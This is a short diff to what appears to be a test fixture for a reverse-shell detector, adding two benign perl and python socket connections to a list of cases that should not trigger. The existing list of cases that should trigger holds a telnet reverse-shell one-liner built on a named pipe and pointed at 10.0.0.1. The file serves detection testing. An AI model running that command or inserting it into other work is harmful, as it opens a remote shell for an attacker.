@@ -35,6 +35,8 @@ FIRES = [
     ("/usr/bin/dash", "sh", "-c", "mknod p p; telnet 10.0.0.1 9 0<p | sh 1>p"),
 ]
 QUIET = [
+    ("/usr/bin/perl", "perl", "-e", "$s=IO::Socket::INET->new('h:9');print $s 1;$s->flush;print scalar $s->getline"),
+    ("/usr/bin/python3", "python3", "-c", "import socket,sys; socket.create_connection(('h',9)); sys.stdout.flush()"),
     ("/usr/bin/nc.openbsd", "nc", "-zv", "db", "5432"),
     ("/bin/busybox", "nc", "-w", "1", "127.0.0.1", "80"),
     ("/usr/bin/nc.openbsd", "nc", "-U", "/run/haproxy.sock"),
